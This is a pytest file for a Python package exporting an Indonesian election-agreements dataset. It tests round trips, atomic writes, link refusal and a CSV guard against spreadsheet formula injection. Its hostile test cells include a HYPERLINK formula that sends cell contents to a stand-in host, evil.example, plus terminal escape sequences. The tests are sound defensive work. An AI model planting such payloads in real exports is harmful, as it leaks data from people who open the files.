"""Exports: lossless round trips, formula guard, codes kept as text, descriptors, atomic writes."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

import pemilu_pks as pk
from pemilu_pks import _export
from pemilu_pks._cli import main
from pemilu_pks._dataset import bundled_path, records_json
from source_tree import ROOT

BUNDLED = Path(str(bundled_path()))
S = pk.ScopeItem
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "'already quoted",
    'line\nbreak, comma and "quotes"',
    "\x1b]0;title\x07\x1b[2J",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> pk.Dataset:
    """The bundled records plus one agreement whose cells attack spreadsheets and terminals."""
    folder = tmp_path_factory.mktemp("hostile")
    base = pk.load()
    original = base.agreements.get("2022-12-29-kpu-ri-polri")
    assert original is not None
    evil = attrs.evolve(
        original,
        id="2022-12-29-kpu-ri-polri-evil",
        title=HOSTILE_CELLS[0],
        scope=(S.LAW_ENFORCEMENT, S.DATA_EXCHANGE, S.LAW_ENFORCEMENT),
        related=(),
        notes=HOSTILE_CELLS,
        figures=(
            pk.Figure(key="personnel", value=564, text="564 personel"),
            pk.Figure(key="personnel", value=-1),
        ),
        parent=None,
    )
    records = {
        "agreements": [*base.agreements, evil],
        "institutions": list(base.institutions),
        "people": list(base.people),
        "sources": list(base.sources),
    }
    for name, items in records.items():
        (folder / f"{name}.json").write_text(records_json(name, items), encoding="utf-8")
    shutil.copy(BUNDLED / "datapackage.json", folder)
    return pk.Dataset.from_path(folder)


def originals(ds: pk.Dataset) -> dict[str, list[Any]]:
    """The records an export holds, in export order."""
    return {
        "regions": _export.export_regions(ds),
        "institutions": list(ds.institutions),
        "people": list(ds.people),
        "sources": list(ds.sources),
        "agreements": list(ds.agreements),
    }


# --- lossless -------------------------------------------------------------------------


@pytest.mark.parametrize("which", ["bundled", "hostile"])
def test_sqlite_round_trip(which: str, hostile: pk.Dataset, tmp_path: Path) -> None:
    """Records read back from the SQLite export equal the originals."""
    ds = pk.load() if which == "bundled" else hostile
    _export.export(ds, tmp_path / "pks.db", "sqlite")
    assert originals(ds) == _export.records_from_tables(_export.read_sqlite(tmp_path / "pks.db"))


@pytest.mark.parametrize("which", ["bundled", "hostile"])
def test_csv_round_trip(which: str, hostile: pk.Dataset, tmp_path: Path) -> None:
    """Records read back from the CSV export (typed by its descriptor) equal the originals."""
    ds = pk.load() if which == "bundled" else hostile
    _export.export(ds, tmp_path / "csv", "csv")
    assert originals(ds) == _export.records_from_tables(_export.read_csv_folder(tmp_path / "csv"))


def test_repeated_scope_keeps_order_and_repetition(hostile: pk.Dataset, tmp_path: Path) -> None:
    """agreement_scope keeps every item, in order, with its position."""
    _export.export(hostile, tmp_path / "pks.db", "sqlite")
    db = sqlite3.connect(tmp_path / "pks.db")
    try:
        rows = db.execute(
            "SELECT position, item FROM agreement_scope WHERE agreement = ? ORDER BY position",
            ("2022-12-29-kpu-ri-polri-evil",),
        ).fetchall()
    finally:
        db.close()
    assert [(0, "law_enforcement"), (1, "data_exchange"), (2, "law_enforcement")] == rows


# --- cells that attack the reader -----------------------------------------------------


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file."""
    import csv

    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_csv_export_guards_formulas(hostile: pk.Dataset, tmp_path: Path) -> None:
    """No cell of the CSV export starts like a spreadsheet formula."""
    _export.export(hostile, tmp_path / "csv", "csv")
    cells = [c for path in (tmp_path / "csv").glob("*.csv") for c in csv_cells(path)]
    assert "'" + HOSTILE_CELLS[0] in cells
    number = re.compile(r"-?[0-9]+")  # integer columns: a spreadsheet shows the number
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [] == [c for c in cells if c.startswith(starts) and not number.fullmatch(c)]


def test_csv_export_guard_can_be_turned_off(hostile: pk.Dataset, tmp_path: Path) -> None:
    """guard_formulas=False writes the cells as they are."""
    _export.export(hostile, tmp_path / "csv", "csv", guard_formulas=False)
    assert HOSTILE_CELLS[0] in csv_cells(tmp_path / "csv" / "agreements.csv")


def test_selection_to_csv_guards_formulas(hostile: pk.Dataset) -> None:
    """Selection.to_csv guards formulas by default and not when told."""
    selection = hostile.agreements.filter(text="HYPERLINK")
    assert 1 == len(selection)
    assert "'=HYPERLINK" in selection.to_csv()
    assert "'=HYPERLINK" not in selection.to_csv(guard_formulas=False)


def test_cli_csv_guards_formulas(hostile: pk.Dataset, capsys: pytest.CaptureFixture[str]) -> None:
    """pemilu-pks agreements -f csv guards formulas too."""
    assert hostile.path is not None
    status = main(["--data", str(hostile.path), "agreements", "--text", "HYPERLINK", "-f", "csv"])
    out = capsys.readouterr().out
    assert 0 == status
    assert ",\"'=HYPERLINK(" in out


# --- codes stay text ------------------------------------------------------------------

#: The way the docs show to load any CSV the project writes (docs/queries.md, docs/cli.md).
READ_CSV = "pd.read_csv(path, dtype=str, keep_default_na=False)"


def test_docs_show_the_way_to_read_csv() -> None:
    """The pages about CSV show the one way to load it that keeps codes as text."""
    for page in ("queries.md", "cli.md"):
        assert READ_CSV in (ROOT / "docs" / page).read_text(encoding="utf-8"), page


def csv_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Iterator[Path]:
    """Every kind of CSV the project writes, as files."""
    ds = pk.load()
    agreements = tmp_path / "agreements.csv"
    ds.agreements.filter(region="Kalsel").to_csv(agreements)
    yield agreements
    for args, name in (
        (["coverage", "--province", "Kalsel", "-f", "csv"], "coverage.csv"),
        (["institutions", "--region", "Kalsel", "-f", "csv"], "institutions.csv"),
        (["agreements", "--region", "Kalsel", "-f", "csv"], "agreements-cli.csv"),
    ):
        assert 0 == main(args)
        (tmp_path / name).write_text(capsys.readouterr().out, encoding="utf-8")
        yield tmp_path / name
    _export.export(ds, tmp_path / "export", "csv")
    yield from sorted((tmp_path / "export").glob("*.csv"))


CODE = re.compile(r"^(ID|[0-9]{2}(\.[0-9]{2}(\.[0-9]{2}(\.[0-9]{4})?)?)?)$")


def test_pandas_keeps_codes_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Read the documented way, every region code of every CSV is the text written, e.g. '63.10'."""
    pd = pytest.importorskip("pandas")
    import csv

    checked = 0
    for path in csv_outputs(tmp_path, capsys):
        frame = eval(READ_CSV, {"pd": pd, "path": path})  # noqa: S307 - the docs' own line
        with path.open(encoding="utf-8", newline="") as f:
            written = list(csv.DictReader(f))
        for column in frame.columns:
            values = [row[column] for row in written]
            if any(CODE.match(v) and "." in v for v in values):
                assert values == list(frame[column]), (path.name, column)
                checked += 1
    assert checked >= 10


def test_coverage_codes_like_63_10_survive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A code whose float would lose its zero (63.10 -> 63.1) keeps it."""
    pd = pytest.importorskip("pandas")
    assert 0 == main(["coverage", "--province", "Kalsel", "-f", "csv"])
    path = tmp_path / "coverage.csv"
    path.write_text(capsys.readouterr().out, encoding="utf-8")
    frame = eval(READ_CSV, {"pd": pd, "path": path})  # noqa: S307 - the docs' own line
    assert "63.10" in set(frame.iloc[:, 0])


# --- descriptors ----------------------------------------------------------------------


def test_csv_export_descriptor_validates(tmp_path: Path) -> None:
    """The CSV export's datapackage.json types every field and validates with frictionless."""
    frictionless = pytest.importorskip("frictionless")
    _export.export(pk.load(), tmp_path / "csv", "csv")
    report = frictionless.validate(str(tmp_path / "csv" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    package = json.loads((tmp_path / "csv" / "datapackage.json").read_text(encoding="utf-8"))
    fields = {f["name"]: f["type"] for r in package["resources"] for f in r["schema"]["fields"]}
    assert "string" == fields["region"]
    assert "integer" == fields["position"]


def test_sqlite_export_descriptor_and_datasette_metadata(tmp_path: Path) -> None:
    """Beside the database: a valid Frictionless descriptor and Datasette metadata with facets."""
    frictionless = pytest.importorskip("frictionless")
    written = _export.export(pk.load(), tmp_path / "pemilu.db", "sqlite")
    descriptor, metadata = tmp_path / "pemilu.datapackage.json", tmp_path / "pemilu.metadata.json"
    assert [tmp_path / "pemilu.db", descriptor, metadata] == [p for p, _ in written]
    package = json.loads(descriptor.read_text(encoding="utf-8"))
    assert [] == list(frictionless.Package.metadata_validate(package))
    assert set(_export.SCHEMA) == {r["name"] for r in package["resources"]}
    meta = json.loads(metadata.read_text(encoding="utf-8"))
    tables = meta["databases"]["pemilu"]["tables"]
    assert ["instrument", "year", "province", {"array": "bodies"}] == tables["agreements"]["facets"]
    assert ["kind", "province"] == tables["institutions"]["facets"]
    assert "level" in tables["regions"]["facets"]
    assert all(meta[key] for key in ("license", "license_url", "source_url", "title"))
    assert all(t["title"] and t["description"] for t in tables.values())


# --- writing safely -------------------------------------------------------------------


@pytest.mark.parametrize("format", ["json", "jsonl", "sqlite"])
def test_interrupted_export_keeps_the_previous_file(
    format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An export that fails midway leaves the previous file byte for byte, and no temporary file."""
    out = tmp_path / f"pks.{format}"
    _export.export(pk.load(), out, format)
    before = out.read_bytes()
    real_tables, real_write = _export.tables, Path.write_bytes

    def half_written(path: Path, data: bytes) -> int:
        real_write(path, data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    def failing_records(*args: Any, **kwargs: Any) -> Iterator[Any]:
        yield "regions", "region", _export.export_regions(pk.load())
        raise OSError(28, "No space left on device")

    class Failing:
        def __iter__(self) -> Iterator[Any]:
            yield from real_tables(pk.load())["agreements"][1][:3]
            raise OSError(28, "No space left on device")

    def failing_tables(*args: Any, **kwargs: Any) -> dict[str, Any]:
        found = real_tables(*args, **kwargs)
        return {**found, "agreements": (found["agreements"][0], Failing())}

    if format == "json":
        monkeypatch.setattr(Path, "write_bytes", half_written)
    elif format == "jsonl":
        monkeypatch.setattr(_export, "_records", failing_records)
    else:
        monkeypatch.setattr(_export, "tables", failing_tables)
    with pytest.raises(pk.OutputError, match="No space left"):
        _export.export(pk.load(), out, format)
    assert before == out.read_bytes()
    assert [] == [p for p in os.listdir(tmp_path) if p.endswith(".partial")]


def test_interrupted_csv_export_keeps_the_previous_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CSV export that fails midway leaves the previous folder whole."""
    out = tmp_path / "csv"
    _export.export(pk.load(), out, "csv")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    written = []
    real = _export.write_csv_rows

    def failing(file: Any, *args: Any, **kwargs: Any) -> None:
        written.append(file)
        if len(written) == 4:
            raise OSError(28, "No space left on device")
        real(file, *args, **kwargs)

    monkeypatch.setattr(_export, "write_csv_rows", failing)
    with pytest.raises(pk.OutputError):
        _export.export(pk.load(), out, "csv")
    assert before == {p.name: p.read_bytes() for p in out.iterdir()}
    assert ["csv"] == os.listdir(tmp_path)


needs_posix = pytest.mark.skipif(sys.platform == "win32", reason="links")


@needs_posix
@pytest.mark.parametrize("format", ["json", "jsonl", "sqlite"])
def test_export_refuses_a_link(format: str, tmp_path: Path) -> None:
    """A link standing at --out is refused; the file it points to is untouched."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "out").symlink_to(victim)
    with pytest.raises(pk.OutputError, match="link"):
        _export.export(pk.load(), tmp_path / "out", format)
    assert "precious" == victim.read_text()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "sqlite", "--out", "/no/such/dir/x.db"], "does not exist"),
        (["--format", "json", "--out", "{tmp}"], "a folder stands there"),
        (["--format", "csv", "--out", "{tmp}/file"], "not a folder"),
        (["--format", "json", "--out", ""], "empty path"),
    ],
)
def test_cli_export_unwritable_is_one_message(
    args: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An output that cannot be written is one message and exit status 1 (2 for an empty path)."""
    (tmp_path / "file").write_text("x")
    status = main(["export", *(a.replace("{tmp}", str(tmp_path)) for a in args)])
    err = capsys.readouterr().err
    assert status in (1, 2)
    assert 1 == len(err.strip().splitlines())
    assert message in err
    assert "Traceback" not in err


def test_cli_export_says_when_it_replaces(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The CLI says 'wrote' the first time and 'replaced' when a file was there."""
    out = str(tmp_path / "pks.json")
    assert 0 == main(["export", "--format", "json", "--out", out])
    assert f"wrote {out}" in capsys.readouterr().err
    assert 0 == main(["export", "--format", "json", "--out", out])
    assert f"replaced {out}" in capsys.readouterr().err
